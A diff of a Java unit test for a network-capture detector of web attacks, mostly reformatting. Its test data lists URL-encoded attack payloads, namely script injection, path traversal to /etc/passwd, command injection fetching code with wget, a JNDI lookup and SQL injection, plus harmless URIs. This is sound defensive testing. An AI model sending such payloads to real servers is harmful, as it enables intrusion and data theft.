@@ -2,15 +2,10 @@ package io.aegispcap.analysis.detection.content;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-import io.aegispcap.analysis.detection.DetectionOptions;
 import io.aegispcap.analysis.detection.Detector;
 import io.aegispcap.analysis.detection.DetectorContract;
-import io.aegispcap.analysis.detection.Finding;
 import io.aegispcap.analysis.detection.Said;
 import io.aegispcap.analysis.detection.Scene;
-import io.aegispcap.analysis.detection.Severity;
-import io.aegispcap.capture.protocol.login.LoginAttempt;
-import io.aegispcap.testkit.packet.PacketBuilder;
 import org.junit.jupiter.api.Test;
 
 /// See [DetectorContract] for what it also shows.
@@ -40,22 +35,29 @@ class WebAttackTests extends DetectorContract {
 
   @Test
   void knowsEachKind() {
-    for (String uri : new String[] {
-      "/a?x=%3Cscript%3Ealert(1)%3C/script%3E",
-      "/a?f=..%2f..%2f..%2fetc%2fpasswd",
-      "/a?c=1;wget%20http://x/y",
-      "/a?u=%24%7Bjndi:ldap://x/y%7D",
-      "/a?id=1%27%20or%20%271%27=%271"
-    }) {
+    for (String uri :
+        new String[] {
+          "/a?x=%3Cscript%3Ealert(1)%3C/script%3E",
+          "/a?f=..%2f..%2f..%2fetc%2fpasswd",
+          "/a?c=1;wget%20http://x/y",
+          "/a?u=%24%7Bjndi:ldap://x/y%7D",
+          "/a?id=1%27%20or%20%271%27=%271"
+        }) {
       assertThat(requested(uri).shownTo(detector())).as(uri).hasSize(1);
     }
   }
 
   @Test
   void takesUsualTargetsForHarmless() {
-    for (String uri : new String[] {
-      "/", "/index.html?lang=en&x=%20", "/or/1/2", "/shop?name=o%27neil&sort=desc", "*", "/a;v=1/b"
-    }) {
+    for (String uri :
+        new String[] {
+          "/",
+          "/index.html?lang=en&x=%20",
+          "/or/1/2",
+          "/shop?name=o%27neil&sort=desc",
+          "*",
+          "/a;v=1/b"
+        }) {
       assertThat(requested(uri).shownTo(detector())).as(uri).isEmpty();
     }
   }
